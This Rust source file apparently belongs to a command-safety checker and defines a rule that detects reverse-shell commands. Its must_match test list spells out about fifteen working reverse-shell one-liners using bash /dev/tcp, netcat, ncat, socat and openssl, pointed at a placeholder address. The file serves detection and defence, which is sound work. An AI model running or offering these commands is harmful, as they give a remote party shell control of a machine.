//! A shell whose other end is somewhere on the network. What an interpreter does with its own sockets is not seen.

use super::arguments::{has_short, is_long, only_asks};
use super::{Case, Rule};

pub(super) const RULE: Rule = Rule {
    name: "reverse-shell",
    reason: "would hand a shell to whoever is at the other end of a network connection",
    advice: "To exchange data, pipe a file or the output of a program; to test a port, use `nc -z`.",
    matches,
    must_match: &[
        "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
        "sh -i 5<> /dev/tcp/192.0.2.1/4444 0<&5 1>&5 2>&5",
        "exec 5<>/dev/tcp/192.0.2.1/4444; sh <&5 >&5 2>&5",
        "exec bash </dev/tcp/192.0.2.1/4444",
        "{ bash -i; } >& /dev/udp/192.0.2.1/53 0>&1",
        "nc -e /bin/sh 192.0.2.1 4444",
        "nc -lvp 4444 -c bash",
        "ncat 192.0.2.1 4444 --exec /bin/bash",
        "ncat --sh-exec 'bash -i' 192.0.2.1 4444",
        "nc 192.0.2.1 4444 | sh",
        "rm -f f; mkfifo f; cat f | sh -i 2>&1 | nc 192.0.2.1 4444 > f",
        "telnet 192.0.2.1 4444 | bash | telnet 192.0.2.1 4445",
        "socat TCP:192.0.2.1:4444 EXEC:/bin/sh",
        "socat exec:'bash -li',pty,stderr tcp:192.0.2.1:4444",
        "mkfifo s; sh -i < s 2>&1 | openssl s_client -quiet -connect 192.0.2.1:443 > s",
    ],
    must_not_match: &[
        "nc -z localhost 5432",
        "nc -zv -w 3 localhost 5432",
        "nc -X connect -x proxy:3128 host 22",
        "echo stats | nc localhost 11211",
        "(echo > /dev/tcp/localhost/5432) 2>/dev/null",
        "exec 3<>/dev/tcp/localhost/80; echo ping >&3; head -1 <&3",
        "timeout 1 bash -c 'echo > /dev/tcp/localhost/80'",
        "nc -l 9000 > received.tar",
        "tar c . | nc localhost 9000",
        "socat TCP-LISTEN:8080,fork TCP:localhost:80",
        "openssl s_client -connect localhost:443 </dev/null | openssl x509 -noout -dates",
        "bash build.sh | tee log",
        "bash -c 'echo stats' | nc localhost 11211",
    ],
};

fn matches(case: &Case<'_>) -> bool {
    let invocation = case.invocation;
    if invocation.connects_shell {
        return true;
    }
    let shapes = || invocation.shapes();
    match invocation.system_program() {
        "nc" | "ncat" | "netcat" | "nc.traditional" | "nc.openbsd" | "cryptcat" => {
            let shapes = shapes();
            !only_asks(&shapes)
                && shapes.iter().any(|shape| {
                    has_short(shape, "ec", "iIMmOPpqsTVWwXxdgGo")
                        || is_long(shape, "--exec")
                        || is_long(shape, "--sh-exec")
                        || is_long(shape, "--lua-exec")
                })
        }
        "socat" => {
            let shapes: Vec<String> = shapes().iter().map(|s| s.to_ascii_lowercase()).collect();
            let executes = |s: &String| {
                ["exec:", "system:", "shell:"]
                    .iter()
                    .any(|k| s.starts_with(k))
            };
            let network = |s: &String| {
                [
                    "tcp", "udp", "openssl", "ssl", "sctp", "vsock", "socks", "proxy", "dccp",
                ]
                .iter()
                .any(|kind| s.starts_with(kind))
            };
            shapes.iter().any(executes) && shapes.iter().any(network)
        }
        _ => false,
    }
}
